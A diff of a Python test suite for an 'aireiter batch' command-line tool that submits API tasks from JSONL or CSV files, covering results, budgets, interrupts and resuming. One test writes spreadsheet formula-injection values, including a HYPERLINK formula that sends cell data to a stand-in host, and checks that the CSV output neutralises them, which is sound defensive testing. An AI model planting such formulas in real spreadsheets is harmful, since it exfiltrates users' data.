@@ -1,90 +1,55 @@
-"""``aireiter batch``: what it runs, what it says, and how it goes on."""
+"""``aireiter batch``: what it runs, what it reports, and how it resumes."""
 
 import asyncio
 import contextlib
-import functools
+import csv
 import io
 import json
 import os
+import re
 import signal
 import sqlite3
 import sys
 import threading
-from collections.abc import Awaitable, Callable, Iterator, Mapping
+from collections.abc import Awaitable, Callable, Mapping
 from pathlib import Path
 from typing import Any
 
-import attrs
 import pytest
 
 from aireiter_async import (
     AmbiguousSubmitError,
-    AsyncClient,
-    BatchProgress,
+    AuthenticationError,
     BudgetExceededError,
     DownloadError,
-    Failure,
     InvalidRequestError,
-    PollPolicy,
-    RetryPolicy,
+    NotSubmittedError,
     ServerError,
     SubmitRequest,
     Task,
     TaskStatus,
     TaskTimeoutError,
 )
+from aireiter_async._batch import Failure
 from aireiter_async._ledger._file import lock_ledger
-from aireiter_async.cli import _connection, _stop, main
-from aireiter_async.cli._stop import Stop, catching
-from aireiter_async.cli._tally import Tally, row
+from aireiter_async.cli import _signals
+from aireiter_async.cli._batch import Source, _conclude
+from aireiter_async.cli._errors import CommandError
+from aireiter_async.cli._output import Output
+from aireiter_async.cli._rows import Rows
+from aireiter_async.cli._signals import Stop, catching
+from aireiter_async.cli._summary import Summary, result_document
 from aireiter_async.testing import FakeService, Fault
-from tests.test_cli import KEY, Ran, serving, start
+from tests.command import Ran, start
 
 Run = Callable[..., Ran]
 Until = Callable[[Callable[[], object]], Awaitable[None]]
 
 
-@attrs.define
-class Hours:
-    """A clock that stands still until it is put forward."""
-
-    now: float = 0.0
-
-    def __call__(self) -> float:
-        """Tell the time."""
-        return self.now
-
-
 @pytest.fixture
-def hours() -> Hours:
-    """Return the clock of the service."""
-    return Hours()
-
-
-@pytest.fixture
-def served(hours: Hours, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[FakeService]:
-    """Run a service that the environment points to, and work in an empty folder."""
-    with serving(FakeService(clock=hours)) as service:
-        monkeypatch.setenv("AIREITER_API_KEY", KEY)
-        monkeypatch.setenv("AIREITER_BASE_URL", service.url)
-        monkeypatch.chdir(tmp_path)
-        yield service
-
-
-@pytest.fixture
-def run(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> Run:
-    """Run the command in this process, with a client that does not wait between looks."""
-    quick = functools.partial(
-        AsyncClient,
-        polling=PollPolicy(first=0, step=0.001, cap=0.001),
-        retry=RetryPolicy(base=0, settle=0),
-    )
-    monkeypatch.setattr(_connection, "AsyncClient", quick)
-
-    def run(*argv: str) -> Ran:
-        return Ran(main(["batch", *argv]), *capsys.readouterr())
-
-    return run
+def run(aireiter: Run) -> Run:
+    """Return what runs ``aireiter batch`` in this process."""
+    return lambda *argv: aireiter("batch", *argv)
 
 
 def write(count: int, name: str = "f.jsonl", *, named: bool = False) -> str:
@@ -111,60 +76,55 @@ def states() -> dict[str, int]:
 
 
 def test_a_batch_runs_to_its_end(served: FakeService, run: Run) -> None:
-    """Each line is charged once, saved and told, and there is one document on standard output."""
     name = write(5)
     ran = run(name, "--results", "results.jsonl", "--download", "new/out", "--json")
     assert ran.status == 0
     assert len(served.charges) == 5
-    told = ran.document
-    assert (
-        told.items()
-        >= {
-            "file": name,
-            "requests": 5,
-            "completed": 5,
-            "completed_before": 0,
-            "failed": 0,
-            "reasons": [],
-            "unfinished": 0,
-            "outstanding": 0,
-            "credits_used": 5.0,
-            "credits_of_ledger": 5.0,
-            "files": 5,
-            "directory": "new/out",
-            "ledger": "f.jsonl.db",
-            "results": "results.jsonl",
-        }.items()
-    )
+    expected = {
+        "file": name,
+        "requests": 5,
+        "succeeded": 5,
+        "known": 0,
+        "failed": 0,
+        "not_submitted": 0,
+        "reasons": [],
+        "unfinished": 0,
+        "running": 0,
+        "credits_used": 5.0,
+        "credits_of_ledger": 5.0,
+        "files": 5,
+        "directory": "new/out",
+        "ledger": "f.jsonl.db",
+        "results": "results.jsonl",
+    }
+    assert ran.document.items() >= expected.items()
     rows = results()
     assert [each["index"] for each in rows] == [0, 1, 2, 3, 4]
     assert [each["line"] for each in rows] == [1, 3, 5, 7, 9]
-    assert {each["id"] for each in rows} == {charge.out_task_id for charge in served.charges}
+    assert {each["out_task_id"] for each in rows} == {each.out_task_id for each in served.charges}
     for each in rows:
         assert (each["model"], each["status"], each["credits"]) == ("suno_lyrics", "completed", 1)
         assert each["error"] is None
         assert each["outputs"][0]["title"] == "Últimos días, 末班列车 0"
         assert [Path(path).parent for path in each["files"]] == [Path("new/out")]
         assert Path(each["files"][0]).stat().st_size
-    assert "5/5  done" in ran.err.splitlines()[-1]
+    assert "5/5  failed 0  running 0" in ran.err.splitlines()[-1]
     assert states() == {"downloaded": 5}
 
 
 def test_a_batch_is_summed_up_for_people(served: FakeService, run: Run) -> None:
-    """To people the sums are a table; a second run costs nothing, and says so."""
     name = write(3)
     assert run(name).status == 0
-    ran = run(name, "--results", "results.jsonl", "--download", "out")
+    ran = run(name, "--results", "results.jsonl", "-o", "out")
     assert (ran.status, len(served.charges)) == (0, 3)
     rows = {line.split()[0]: " ".join(line.split()[1:]) for line in ran.out.splitlines()}
-    seconds = float(rows.pop("seconds"))
-    assert seconds < 60
+    assert float(rows.pop("seconds")) < 60
     assert rows == {
         "requests": "3 f.jsonl",
-        "completed": "3 of them 3 before, as the ledger says",
+        "succeeded": "3 3 of them before",
         "failed": "0",
-        "retries": "0 of HTTP requests that had failed",
-        "settled": "0 lost answers, made good by asking, not by paying",
+        "retries": "0 of HTTP requests that failed",
+        "settled": "0 lost responses, recovered without paying again",
         "credits": "0 in this run; 3 in the ledger",
         "files": "3 out",
         "ledger": "f.jsonl.db",
@@ -172,10 +132,27 @@ def test_a_batch_is_summed_up_for_people(served: FakeService, run: Run) -> None:
     }
 
 
-def test_rows_of_a_csv_file_are_requests(served: FakeService, run: Run) -> None:
-    """Columns are parameters, and out_task_id is the id."""
+def test_results_may_be_a_table_that_no_spreadsheet_runs(served: FakeService, run: Run) -> None:
+    notes = ['=HYPERLINK("http://x.invalid?"&A1)', "@SUM(1)", "-1", "", "plain, text"]
+    with Path("f.csv").open("w", newline="") as file:
+        rows = [[f"rain {note}", note] for note in notes]
+        csv.writer(file).writerows([["prompt", "=notes"], *rows])
+    options = ("-m", "suno_lyrics", "--keep-columns", "--results", "r.CSV", "--window", "1")
+    assert run("f.csv", *options).status == 0
+    with Path("r.CSV").open(newline="") as file:
+        header, *table = csv.reader(file)
+    assert header[-1] == "'=notes"
+    assert header[:4] == ["index", "line", "out_task_id", "model"]
+    assert [row[-1] for row in table] == [f"'{note}" for note in notes[:3]] + notes[3:]
+    ids = {row[header.index("out_task_id")] for row in table}
+    assert ids == {charge.out_task_id for charge in served.charges}
+    assert json.loads(table[0][header.index("outputs")])[0]["kind"] == "text"
+    assert [row[header.index("credits")] for row in table] == ["1.0"] * 5
+
+
+def test_rows_of_a_table_are_requests(served: FakeService, run: Run) -> None:
     Path("f.csv").write_text('out_task_id,prompt\na,rain\nb,"snow,\nfog"\n')
-    ran = run("f.csv", "--model", "suno_lyrics", "--ledger", "l.db", "--window", "1")
+    ran = run("f.csv", "-m", "suno_lyrics", "--ledger", "l.db", "--window", "1")
     assert ran.status == 0
     bodies = [each.fields for each in served.requests if "params" in each.fields]
     assert [(body["out_task_id"], body["params"]) for body in bodies] == [
@@ -185,8 +162,15 @@ def test_rows_of_a_csv_file_are_requests(served: FakeService, run: Run) -> None:
     assert Path("l.db").exists()
 
 
-def test_what_has_failed_is_tried_again_when_asked_for(served: FakeService, run: Run) -> None:
-    """Failures exit with 1 and are named by reason and line; a re-run leaves them until told."""
+def test_kept_columns_and_keys_reappear_in_the_results(served: FakeService, run: Run) -> None:
+    del served
+    lines = [{"model": "suno_lyrics", "params": {"prompt": f"rain {n}"}, "id": n} for n in range(3)]
+    Path("f.jsonl").write_text("".join(f"{json.dumps(line)}\n" for line in lines))
+    assert run("f.jsonl", "--keep-columns", "--results", "results.jsonl").status == 0
+    assert [each["columns"] for each in results()] == [{"id": 0}, {"id": 1}, {"id": 2}]
+
+
+def test_what_failed_is_retried_when_asked_for(served: FakeService, run: Run) -> None:
     name = write(6)
     served.script("submit", Fault.failed("TIMEOUT", "late"), Fault.failed("NSFW"), Fault.ok())
     served.script("submit", *[Fault.failed("TIMEOUT", "late")] * 3)
@@ -194,20 +178,21 @@ def test_what_has_failed_is_tried_again_when_asked_for(served: FakeService, run:
     ran = run(*options)
     assert ran.status == 1
     assert "failed       5\n" in ran.out
-    told = " 4  task failed, TIMEOUT, lines 1, 7, 9 and others: the task failed: TIMEOUT: late"
-    assert told in ran.out
+    reason = " 4  task failed, TIMEOUT, lines 1, 7, 9 and others: the task failed: TIMEOUT: late"
+    assert reason in ran.out
     assert " 1  task failed, NSFW, line 3: " in ran.out
-    assert ran.err.splitlines()[-1].startswith("aireiter: 5 of 6 requests have failed; ")
+    assert ran.err.splitlines()[-1].startswith("aireiter: 5 of 6 requests failed; ")
     bad = results()[0]
     assert (bad["status"], bad["error"]["failure_code"], bad["files"]) == ("failed", "TIMEOUT", [])
     before = len(served.charges)
     again = run(*options, "--json")
     assert (again.status, len(served.charges)) == (1, before)
-    assert (again.document["completed"], again.document["reasons"][0]["count"]) == (1, 4)
+    assert (again.document["succeeded"], again.document["reasons"][0]["count"]) == (1, 4)
     assert again.document["reasons"][0]["lines"] == [1, 7, 9]
     retried = run(*options, "--retry-failed", "--json")
     assert (retried.status, len(served.charges)) == (0, before + 5)
-    assert len(results()) == retried.document["completed"] == 6
+    assert len(results()) == retried.document["succeeded"] == 6
+    assert retried.document["known"] == 1
     assert run(*options).status == 0
 
 
@@ -217,32 +202,27 @@ def test_a_batch_stops_at_its_budget(served: FakeService, run: Run) -> None:
     ran = run(name, "--max-credits", "2", "--window", "1", "--results", "results.jsonl")
     assert ran.status == 4
     assert (served.credits, len(served.charges)) == (1e6 - 2, 3)
-    assert "--max-credits is reached, 2 requests were not submitted" in ran.err
+    assert "--max-credits is reached, 2 requests not submitted" in ran.err
+    assert re.search(r"^failed +1$", ran.out, re.MULTILINE)
+    assert re.search(r"^not submitted +2$", ran.out, re.MULTILINE)
     assert "over budget, lines 7, 9: --max-credits is 2" in ran.out
-    assert [each["status"] for each in results()] == [
-        "failed",
-        "completed",
-        "completed",
-        "unsubmitted",
-        "unsubmitted",
-    ]
+    statuses = ["failed", "completed", "completed", "not submitted", "not submitted"]
+    assert [each["status"] for each in results()] == statuses
     assert run(name, "--max-credits", "5", "--retry-failed").status == 0
     assert served.credits == 1e6 - 5
 
 
-def test_credits_that_nobody_told_are_counted(served: FakeService, run: Run) -> None:
-    """Of tasks that go on without an estimate it is said that their price is not known."""
+def test_unknown_prices_are_counted(served: FakeService, run: Run) -> None:
     served.estimates = False
     served.durations = 1000
     ran = run(write(2), "--timeout", "0")
     assert ran.status == 1
-    assert "0  in this run; 0 in the ledger; 2 tasks did not say" in ran.out
-    assert "task goes on, lines " in ran.out
+    assert "0  in this run; 0 in the ledger; the price of 2 tasks is unknown" in ran.out
+    assert "task still running, lines " in ran.out
     assert "aireiter wait" in ran.out
 
 
 def test_another_request_under_a_known_id_is_a_failure(served: FakeService, run: Run) -> None:
-    """A line that was changed under its own id is told, and not sent."""
     name = write(2, named=True)
     assert run(name).status == 0
     Path(name).write_text(Path(name).read_text().replace("rain 1", "snow"))
@@ -252,7 +232,6 @@ def test_another_request_under_a_known_id_is_a_failure(served: FakeService, run:
 
 
 def test_a_ledger_that_cannot_be_used_is_bad_input(served: FakeService, run: Run) -> None:
-    """A file that is no ledger, and one that is in use, leave everything as it is."""
     name = write(2)
     Path("results.jsonl").write_text("kept")
     options = (name, "--results", "results.jsonl")
@@ -267,8 +246,7 @@ def test_a_ledger_that_cannot_be_used_is_bad_input(served: FakeService, run: Run
     assert served.requests == []
 
 
-def test_a_ledger_that_breaks_is_a_failure(served: FakeService, run: Run) -> None:
-    """When the ledger cannot be written any more, the batch ends in one line."""
+def test_a_ledger_that_breaks_ends_the_batch(served: FakeService, run: Run) -> None:
     name = write(1)
     assert run(name).status == 0
     with contextlib.closing(sqlite3.connect("f.jsonl.db")) as db:
@@ -286,48 +264,79 @@ def test_a_ledger_that_breaks_is_a_failure(served: FakeService, run: Run) -> Non
 USAGE: list[tuple[tuple[str, ...], str]] = [
     (("--concurrency", "0"), "--concurrency must be at least 1, got 0"),
     (("--window", "0"), "--window must be at least 1, got 0"),
-    (("--max-credits", "-1"), "--max-credits must be at least 0, got -1.0"),
+    (("--max-credits", "-1"), "--max-credits must be at least 0, got -1"),
     (("--timeout", "nan"), "--timeout must be at least 0, got nan"),
-    (("--max-rate", "0"), "--max-rate must be more than 0, got 0.0"),
+    (("--max-rate", "0"), "--max-rate must be more than 0, got 0"),
     (("--max-rate", "inf"), "--max-rate must be more than 0, got inf"),
-    (("--download", "/dev/null/x"), "--download: there can be no such folder"),
+    (("--format", "xml"), "xml"),
+    (("--keep-columns", "--unchecked"), "--keep-columns and --unchecked exclude each other"),
+    (("promt",), "a parameter must be NAME=VALUE, got 'promt'"),
+    (("--download", "/dev/null/x"), "--download: the directory cannot be created"),
     (("--results", "/dev/null/x"), "--results cannot be written"),
-    (("--results", "./f.jsonl"), "--results is the file of requests"),
+    (("--results", "./f.jsonl"), "--results is the input file"),
     (("--results", "f.jsonl.db"), "--results is the ledger"),
     (("--ledger", "/dev/null/x"), "--ledger: "),
+    (("--proxy", "ftp://u:secret-of-the-proxy@p"), "--proxy must be an http or https URL"),
 ]
 
 
-@pytest.mark.parametrize(("argv", "told"), USAGE, ids=[" ".join(argv) for argv, _ in USAGE])
+@pytest.mark.parametrize(("argv", "text"), USAGE, ids=[" ".join(argv) for argv, _ in USAGE])
 def test_bad_usage_sends_nothing(
-    served: FakeService, run: Run, argv: tuple[str, ...], told: str
+    served: FakeService, run: Run, argv: tuple[str, ...], text: str
 ) -> None:
-    """What cannot be done as asked exits with 2 in one line."""
     ran = run(write(1), *argv)
-    assert (ran.status, ran.out, ran.err.count("\n")) == (2, "", 1)
-    assert told in ran.err
-    assert served.requests == []
+    assert (ran.status, ran.out, served.requests) == (2, "", [])
+    assert text in ran.err.splitlines()[-2 if "got 'promt'" in text else -1]
+    assert "secret-of-the-proxy" not in ran.err
     assert Path("f.jsonl").read_text()
 
 
 def test_standard_input_needs_a_ledger(served: FakeService, run: Run) -> None:
-    """There is no place beside standard input, and no second chance to read it."""
+    """There is no place beside it, and no second chance to read it."""
     text = Path(write(3)).read_text().encode()
     process = start("batch", "-", "--ledger", "l.db", "--json", stdin=True)
     out, err = process.communicate(text)
-    assert (process.returncode, json.loads(out)["completed"]) == (0, 3), err
+    assert (process.returncode, json.loads(out)["succeeded"]) == (0, 3), err
     assert len(served.charges) == 3
     with pytest.MonkeyPatch.context() as patch:
         patch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(text)))
         ran = run("-")
-    assert (ran.status, "--ledger must say" in ran.err) == (2, True)
+    assert (ran.status, "--ledger must name the ledger" in ran.err) == (2, True)
+
+
+STOPPED = "aireiter: the batch was stopped, 7 requests not submitted: "
+
+
+@pytest.mark.parametrize(
+    ("stopped", "status", "texts"),
+    [
+        (
+            AuthenticationError(401, "bad key"),
+            5,
+            [STOPPED, "bad key (code 401); check the API key", ", then run the same command again"],
+        ),
+        (OSError(28, "disk full"), 5, [STOPPED, "disk full; fix the cause, then run the same"]),
+        (
+            BudgetExceededError("max_credits is 2"),
+            4,
+            ["--max-credits is reached, 7 requests not submitted", "again with a higher limit"],
+        ),
+    ],
+)
+def test_a_stopped_batch_says_what_to_do(
+    capsys: pytest.CaptureFixture[str], stopped: Exception, status: int, texts: list[str]
+) -> None:
+    summary = Summary(succeeded=3, not_submitted=7)
+    assert _conclude(summary, 10, stopped, Output()) == status
+    err = capsys.readouterr().err
+    assert err.count("\n") == 1
+    assert [text for text in texts if text not in err] == []
 
 
 @pytest.mark.parametrize("number", [signal.SIGINT, signal.SIGTERM])
-def test_an_interrupted_program_is_gone_on_with(
-    served: FakeService, run: Run, hours: Hours, number: signal.Signals
+def test_an_interrupted_program_is_resumed(
+    served: FakeService, run: Run, number: signal.Signals
 ) -> None:
-    """A program that is asked to end leaves the waits, and the same command finishes the rest."""
     served.durations = 1000
     name = write(8)
     options = (name, "--window", "4", "--results", "results.jsonl")
@@ -337,23 +346,25 @@ def test_an_interrupted_program_is_gone_on_with(
     process.send_signal(number)
     out, err = process.communicate()
     assert process.returncode == 3
-    assert b"of them 4 go on at the service\n" in out
+    assert b"4 of them are running at the service\n" in out
     assert err.splitlines()[-1] == (
-        b"aireiter: interrupted; to go on, run the same command again: nothing is lost"
+        b"aireiter: interrupted; to resume, run the same command again: nothing is lost"
     )
     assert states() == {"submitted": 4}
-    hours.now = 2000
-    served.durations = 0
+    end_tasks(served)
     ran = run(*options)
     assert (ran.status, len(served.charges)) == (0, 8), ran.err
     assert len(results()) == 8
 
 
-def test_running_submits_are_brought_to_their_end(
-    served: FakeService, run: Run, hours: Hours
-) -> None:
-    """Ctrl-C waits for the submits that are under way, and takes no new line."""
+def end_tasks(service: FakeService) -> None:
+    """Let all tasks end, those that run already, too."""
+    clock: Any = service.clock  # the one of the fixture
+    clock.now += 2000
+    service.durations = 0
 
+
+def test_the_first_interrupt_finishes_running_submits(served: FakeService, run: Run) -> None:
     def price(_model: str, _params: Mapping[str, Any]) -> float:
         if len(served.charges) == 0:
             os.kill(os.getpid(), signal.SIGINT)
@@ -364,16 +375,15 @@ def test_running_submits_are_brought_to_their_end(
     name = write(6)
     ran = run(name, "--window", "2")
     assert ran.status == 3
-    assert "; Ctrl-C again leaves them" in ran.err
+    assert "; Ctrl-C again to leave them" in ran.err
     assert len(served.charges) == states()["submitted"] == 2
-    hours.now = 2000
-    served.durations = 0
+    end_tasks(served)
     assert run(name).status == 0
     assert len(served.charges) == 6
 
 
-def test_a_second_interrupt_ends_at_once(served: FakeService, run: Run) -> None:
-    """A submit that hangs is left too, and looked for when the batch goes on."""
+def test_the_second_interrupt_ends_at_once(served: FakeService, run: Run) -> None:
+    """A submit that hangs is left, too, and looked up when the batch resumes."""
     served.script("submit", Fault.hang(accepted=True))
     name = write(3)
     process = start("batch", name, "--window", "1")
@@ -381,22 +391,18 @@ def test_a_second_interrupt_ends_at_once(served: FakeService, run: Run) -> None:
     while not served.charges:
         assert process.poll() is None
     process.send_signal(signal.SIGINT)
-    told = process.stderr.readline()
-    assert told.startswith(
-        b"interrupted: no more lines are taken; submits that come to their end: 1;"
-    )
+    note = process.stderr.readline()
+    assert note.startswith(b"interrupted: finishing 1 submit, submitting nothing new;")
     process.send_signal(signal.SIGINT)
-    assert process.communicate()[1].startswith(b"aireiter: interrupted; to go on")
+    assert process.communicate()[1].startswith(b"aireiter: interrupted; to resume")
     assert (process.returncode, states()) == (3, {"intended": 1})
     assert run(name).status == 0
     assert len(served.charges) == 3
 
 
-def test_an_interrupt_may_come_before_anything_is_sent(
+def test_an_interrupt_while_the_input_is_read_ends_at_once(
     served: FakeService, run: Run, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    """While the input is read, Ctrl-C ends at once."""
-
     class Slow(io.BytesIO):
         def read(self, *_: Any) -> Any:
             return signal.raise_signal(signal.SIGINT)
@@ -411,51 +417,7 @@ def test_an_interrupt_may_come_before_anything_is_sent(
     assert served.requests == []
 
 
-async def test_a_submit_that_was_not_told_of_yet_is_awaited(
-    until: Until, monkeypatch: pytest.MonkeyPatch
-) -> None:
-    monkeypatch.setattr(_stop, "_LAG", 0.0)
-    told: list[str] = []
-    stop = Stop(told.append)
-    loop = asyncio.get_running_loop()
-    batch = asyncio.create_task(stop.guard(loop.create_future()))
-    await asyncio.sleep(0)
-    stop.on_signal(signal.SIGINT, None)
-    loop.call_soon(stop.follow, BatchProgress(submitting=2))
-    await until(lambda: told)
-    assert ": 2; Ctrl-C again" in told[0]
-    assert not batch.done()
-    stop.follow(BatchProgress())
-    await asyncio.wait([batch])
-    assert stop.asked
-
-
-async def test_a_batch_without_a_submit_is_left_a_moment_later(
-    monkeypatch: pytest.MonkeyPatch,
-) -> None:
-    monkeypatch.setattr(_stop, "_LAG", 0.0)
-    told: list[str] = []
-    stop = Stop(told.append)
-    stop.on_signal(signal.SIGINT, None)
-    guarded = asyncio.create_task(stop.guard(asyncio.get_running_loop().create_future()))
-    await asyncio.wait([guarded])
-    assert (stop.asked, told, guarded.exception()) == (True, [], None)
-
-
-async def test_a_third_interrupt_breaks_off_whatever_it_is() -> None:
-    told: list[str] = []
-    stop = Stop(told.append)
-    with catching(stop.on_signal):
-        signal.raise_signal(signal.SIGINT)
-        signal.raise_signal(signal.SIGTERM)
-        with pytest.raises(KeyboardInterrupt):
-            signal.raise_signal(signal.SIGINT)
-    await asyncio.sleep(0)
-    assert (stop.asked, told) == (True, [])
-
-
-def test_an_interrupt_before_the_first_line_sends_nothing(served: FakeService, run: Run) -> None:
-    """Whenever it comes, the batch ends as it should, and is gone on with."""
+def test_an_interrupt_before_the_first_request_sends_nothing(served: FakeService, run: Run) -> None:
     name = write(3)
     os.mkfifo("results.jsonl")
 
@@ -473,9 +435,79 @@ def test_an_interrupt_before_the_first_line_sends_nothing(served: FakeService, r
     assert run(name).status == 0
 
 
-async def test_a_timeout_of_the_batch_is_no_interrupt() -> None:
-    """A TimeoutError from within is passed on."""
+async def test_a_signal_wakes_a_loop_that_waits_for_nothing() -> None:
+    """Without the loop's own handler it would be noticed at the next timer only."""
+    loop = asyncio.get_running_loop()
+    received = asyncio.Event()
+    timer = threading.Timer(0.05, os.kill, (os.getpid(), signal.SIGINT))
+    with catching(lambda *_: loop.call_soon(received.set), signal.SIGINT):
+        timer.start()
+        await received.wait()
+    timer.join()
 
+
+async def test_a_submit_that_is_reported_late_is_finished(
+    until: Until, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(_signals, "_LAG", 0.0)
+    notes: list[str] = []
+    stop = Stop(notes.append)
+    loop = asyncio.get_running_loop()
+    batch = asyncio.create_task(stop.guard(loop.create_future()))
+    await asyncio.sleep(0)
+    stop.on_signal(signal.SIGINT, None)
+    loop.call_soon(stop.on_progress, 2)
+    await until(lambda: notes)
+    assert "finishing 2 submits" in notes[0]
+    assert not batch.done()
+    stop.on_progress(0)
+    await asyncio.wait([batch])
+    assert stop.requested
+
+
+async def test_a_batch_without_a_submit_is_left_soon(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(_signals, "_LAG", 0.0)
+    notes: list[str] = []
+    stop = Stop(notes.append)
+    stop.on_signal(signal.SIGINT, None)
+    guarded = asyncio.create_task(stop.guard(asyncio.get_running_loop().create_future()))
+    await asyncio.wait([guarded])
+    assert (stop.requested, notes, guarded.exception()) == (True, [], None)
+
+
+async def test_a_third_interrupt_ends_whatever_runs() -> None:
+    notes: list[str] = []
+    stop = Stop(notes.append)
+    with catching(stop.on_signal):
+        signal.raise_signal(signal.SIGINT)
+        signal.raise_signal(signal.SIGTERM)
+        with pytest.raises(KeyboardInterrupt):
+            signal.raise_signal(signal.SIGINT)
+    await asyncio.sleep(0)
+    assert (stop.requested, notes) == (True, [])
+
+
+async def test_an_interrupt_counts_though_its_note_cannot_be_written() -> None:
+    def gone(_text: str) -> None:
+        raise BrokenPipeError
+
+    complaints: list[dict[str, Any]] = []
+    asyncio.get_running_loop().set_exception_handler(lambda _, context: complaints.append(context))
+    stop = Stop(gone)
+    stop.on_progress(1)
+
+    async def running() -> None:
+        stop.on_signal(2, None)
+        stop.on_signal(2, None)
+        await asyncio.Event().wait()
+
+    guarded = asyncio.create_task(stop.guard(running()))
+    await asyncio.wait([guarded])
+    assert (stop.requested, guarded.exception()) == (True, None)
+    assert [type(each["exception"]) for each in complaints] == [BrokenPipeError]
+
+
+async def test_a_timeout_within_the_batch_is_no_interrupt() -> None:
     async def running() -> None:
         raise TimeoutError("from within")
 
@@ -483,8 +515,54 @@ async def test_a_timeout_of_the_batch_is_no_interrupt() -> None:
         await Stop(print).guard(running())
 
 
-def test_lines_that_are_added_to_a_running_batch_are_left(served: FakeService, run: Run) -> None:
-    """What was not checked is not sent."""
+# Longer than what is read of a file at once: what follows the first line is read later.
+LENGTH = 200_000
+
+
+def write_long(count: int) -> None:
+    """Write a file of *count* requests, each in a line that is mostly blank."""
+    lines = Path(write(count)).read_text().split("\n\n")
+    Path("f.jsonl").write_text("".join(f"{line:{LENGTH - 1}}\n" for line in lines[:count]))
+
+
+def spoil(file: io.BufferedRandom) -> None:
+    """Make the third line one that cannot be submitted."""
+    file.seek(2 * LENGTH)
+    file.write(b"[]    ")
+
+
+def shorten(file: io.BufferedRandom) -> None:
+    """Take the third line away."""
+    file.truncate(2 * LENGTH)
+
+
+@pytest.mark.parametrize(
+    ("change", "text"),
+    [(spoil, "f.jsonl, line 3: not "), (shorten, "f.jsonl has fewer rows than when the batch")],
+)
+def test_a_file_that_changes_ends_the_batch_with_its_totals(
+    served: FakeService, run: Run, change: Callable[[io.BufferedRandom], None], text: str
+) -> None:
+    def price(_model: str, _params: Mapping[str, Any]) -> float:
+        with Path("f.jsonl").open("r+b") as file:
+            change(file)
+        return 1.0
+
+    served.price = price
+    write_long(3)
+    ran = run("f.jsonl", "--window", "1", "--json")
+    assert ran.status == 1
+    assert (ran.document["succeeded"], ran.document["unfinished"]) == (2, 1)
+    assert ran.document["credits_used"] == len(served.charges) == 2
+    assert ran.document["error"]["message"].startswith(text)
+    assert ran.err.splitlines()[-1].startswith(f"aireiter: {text}")
+    assert ran.err.splitlines()[-1].endswith("restore it and run the same command again")
+    served.price = 1.0
+    write_long(3)
+    assert (run("f.jsonl", "--window", "1").status, len(served.charges)) == (0, 3)
+
+
+def test_rows_that_are_appended_meanwhile_are_left(served: FakeService, run: Run) -> None:
     name = write(2)
 
     def price(_model: str, _params: Mapping[str, Any]) -> float:
@@ -497,12 +575,36 @@ def test_lines_that_are_added_to_a_running_batch_are_left(served: FakeService, r
     assert len(served.charges) == 2
 
 
-def test_results_that_cannot_be_written_end_the_batch(served: FakeService, run: Run) -> None:
-    """A full disk is told in one line, and what was submitted is in the ledger."""
-    ran = run(write(3), "--results", "/dev/full")
+async def test_a_stopped_source_reads_no_further() -> None:
+    rows = Rows(name="f", file=io.BytesIO(b""), format="jsonl")
+    stop = Stop(print)
+    with pytest.raises(CommandError, match="f has fewer rows"):
+        list(Source(rows, 1, stop))
+    stop.requested = True
+    assert list(Source(rows, 1, stop)) == []
+
+
+@pytest.mark.parametrize("name", ["/dev/full", "full.csv"])
+def test_results_that_cannot_be_written_end_the_batch(
+    served: FakeService, run: Run, name: str
+) -> None:
+    """The totals are printed, and what was submitted is in the ledger."""
+    if name != "/dev/full":
+        Path(name).symlink_to("/dev/full")
+    ran = run(write(3), "--results", name, "--window", "1", "--json")
     assert ran.status == 1
+    assert ran.document["error"]["type"] == "OSError"
     assert "No space left on device" in ran.err.splitlines()[-1]
-    assert sum(states().values()) == len(served.charges)
+    assert sum(states().values()) == len(served.charges) == ran.document["credits_used"] == 1
+
+
+def test_only_tasks_at_the_service_are_shown_as_running(served: FakeService, run: Run) -> None:
+    name = write(5)
+    assert run(name, "--window", "1").status == 0
+    ran = run(name, "--window", "5")
+    shown = [int(number) for number in re.findall(r"running +(\d+)", ran.err)]
+    assert set(shown) == {0}
+    assert len(served.charges) == 5
 
 
 REQUEST = SubmitRequest("m", {}, "mine")
@@ -512,21 +614,22 @@ REQUEST = SubmitRequest("m", {}, "mine")
     ("error", "status", "reason"),
     [
         (AmbiguousSubmitError("mine"), "uncertain", "AmbiguousSubmitError"),
-        (BudgetExceededError("over"), "unsubmitted", "over budget"),
+        (BudgetExceededError("over"), "not submitted", "over budget"),
+        (NotSubmittedError("stopped"), "not submitted", "batch stopped"),
         (DownloadError("http://x", "cut"), "completed", "DownloadError"),
-        (InvalidRequestError(422, "no"), "refused", "refused, code 422"),
-        (ServerError(503, "no"), None, "refused, code 503"),
-        (TaskTimeoutError(Task("mine", TaskStatus.PROCESSING)), "processing", "task goes on"),
+        (InvalidRequestError(422, "no"), "rejected", "rejected, code 422"),
+        (ServerError(503, "no"), None, "rejected, code 503"),
+        (TaskTimeoutError(Task("mine", TaskStatus.PROCESSING)), "processing", "task still running"),
     ],
 )
 def test_an_error_says_what_is_known_of_its_task(
     error: Exception, status: str | None, reason: str
 ) -> None:
-    """A row without a task has the status that its error implies, and an error for a program."""
-    outcome = Failure(7, REQUEST, REQUEST, error)
-    told = row(outcome, 9)
-    assert (told["index"], told["line"], told["id"], told["status"]) == (7, 9, "mine", status)
-    assert told["error"]["type"] == type(error).__name__
-    tally = Tally()
-    tally.add(outcome, 9)
-    assert list(tally.reasons) == [reason]
+    task = Task("mine", TaskStatus.COMPLETED) if isinstance(error, DownloadError) else None
+    outcome = Failure(7, REQUEST, None, error, task)
+    row = result_document(outcome, 9, {})
+    assert (row["index"], row["line"], row["out_task_id"], row["status"]) == (7, 9, "mine", status)
+    assert row["error"]["type"] == type(error).__name__
+    summary = Summary()
+    summary.add(outcome, 9)
+    assert list(summary.reasons) == [reason]
